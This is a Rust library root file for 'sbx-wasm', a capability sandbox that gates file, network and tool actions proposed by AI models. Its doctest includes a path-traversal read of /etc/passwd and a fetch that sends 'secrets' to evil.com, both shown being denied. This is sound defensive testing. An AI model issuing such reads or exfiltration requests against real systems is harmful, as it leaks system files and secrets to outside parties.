//! sbx-wasm: run untrusted, model-proposed actions under a capability grant.
//!
//! Every operation passes one [`Sandbox`] gate, in a fixed order: charge the
//! budgets (`max_ops`, `max_wall`: hard), check the capability (mounts,
//! egress rules, tool allow-list: soft), perform the effect through handles
//! the grant opened (cap-std `Dir`s, a [`net::Net`], a [`tools::ToolRegistry`]),
//! then charge `max_output_bytes` (hard). A denied operation is a value, never
//! a panic, and never performs its effect.
//!
//! # Examples
//!
//! ```
//! use sbx_wasm::{Capabilities, Op, Sandbox, SandboxedAgent, Status, Violation};
//!
//! let work = tempfile::tempdir()?;
//! let out = tempfile::tempdir()?;
//! std::fs::write(work.path().join("data.txt"), "q3 numbers")?;
//!
//! let caps = Capabilities::builder()
//!     .read_mount(work.path(), "/work")
//!     .write_mount(out.path(), "/work/out")
//!     .allow_egress("https://api.internal")
//!     .max_ops(3)
//!     .build()?;
//! let mut agent = SandboxedAgent::new(Sandbox::new(caps)?);
//! let run = agent.run_all([
//!     Op::read("/work/data.txt"),
//!     Op::read("/work/../etc/passwd"),
//!     Op::fetch("https://evil.com/steal?data=secrets"),
//!     Op::write("/work/out/report.txt", "done"),
//! ]);
//! let got: Vec<_> = run.results.iter().map(|r| r.violation()).collect();
//! assert_eq!(got, [None, Some(Violation::PathTraversal), Some(Violation::EgressDenied), Some(Violation::MaxOps)]);
//! assert_eq!(run.stopped_reason, Status::HardLimit);
//! assert!(!out.path().join("report.txt").exists());
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```
// Audited exceptions, each with its reason: loading a cached compiled
// artifact (wasm::cache), the exit hook that removes private folders
// (wasm::tmp_dirs), and the advice that maps a compiled image ahead of a
// run (wasm::prefault).
#![deny(unsafe_code)]
#![warn(missing_docs)]
#![warn(unreachable_pub)]

mod agent;
pub mod ask;
pub mod bound;
pub mod budget;
mod cancel;
mod capability;
mod caps;
#[cfg(feature = "wasm")]
pub mod confine;
mod digest;
mod error;
pub mod events;
mod failure;
pub mod flow;
#[cfg(feature = "fuzzing")]
pub mod fuzz_agent;
mod gate;
pub mod ocsf;
mod op;
pub mod plan;
pub mod policy;
mod quiet_panic;
pub mod replay;
mod report;
pub mod seal;
mod services;
pub mod telemetry;
mod violation;
#[cfg(feature = "wasm")]
pub mod wasm;

// The README's and the book's Rust examples compile as doctests, so the
// docs cannot drift from the code. Every page of docs/ is listed here
// (`.ci/doc-check` says so when one is not).
#[cfg(doctest)]
#[doc = include_str!("../../README.md")]
struct ReadmeDoctests;

#[cfg(doctest)]
mod book {
    #[doc = include_str!("../../docs/audit.md")]
    struct Audit;
    #[doc = include_str!("../../docs/caps-file.md")]
    struct CapsFile;
    #[doc = include_str!("../../docs/cli.md")]
    struct Cli;
    #[doc = include_str!("../../docs/egress.md")]
    struct Egress;
    #[doc = include_str!("../../docs/flow.md")]
    struct Flow;
    #[doc = include_str!("../../docs/fuzzing.md")]
    struct Fuzzing;
    #[doc = include_str!("../../docs/introduction.md")]
    struct Introduction;
    #[doc = include_str!("../../docs/javascript.md")]
    struct JavaScript;
    #[doc = include_str!("../../docs/kernel-wall.md")]
    struct KernelWall;
    #[doc = include_str!("../../docs/library.md")]
    struct Library;
    #[doc = include_str!("../../docs/python-package.md")]
    struct PythonPackage;
    #[doc = include_str!("../../docs/mcp.md")]
    struct Mcp;
    #[doc = include_str!("../../docs/plans.md")]
    struct Plans;
    #[doc = include_str!("../../docs/policy.md")]
    struct Policy;
    #[doc = include_str!("../../docs/python.md")]
    struct Python;
    #[doc = include_str!("../../docs/quick-start.md")]
    struct QuickStart;
    #[doc = include_str!("../../docs/replay.md")]
    struct Replay;
    #[doc = include_str!("../../docs/secrets.md")]
    struct Secrets;
    #[doc = include_str!("../../docs/wasm-agents.md")]
    struct WasmAgents;
}

// One path per public type: the modules that define these are private,
// and each type is here, at the crate root (each capability's own types
// in its module: `sbx_wasm::fs`, `net`, `tools`, `kv`).
pub use capability::{Content, Op, OpKind, OpName, Output, Permit, fs, kv, net, tools};

pub use agent::{AgentRun, SandboxedAgent};
pub use budget::{Budget, Clock, ManualClock, MonotonicClock, TickClock, Usage, WriteMeter};
pub use cancel::CancelHandle;
pub use caps::{
    Capabilities, CapabilitiesBuilder, DangerousCapabilities, Protected, ProtectedPaths,
};
pub use error::{CapsError, Error};
pub use gate::{Sandbox, SandboxBuilder};
pub use op::{ErrorKind, OpError, SandboxResult};
pub use report::{
    AuditEvent, Decision, DenialRecord, KernelWall, Landlock, Limits, RunReport, ScriptError,
    SecretUse, Status,
};
pub use services::Services;
pub use violation::{Denial, Violation};
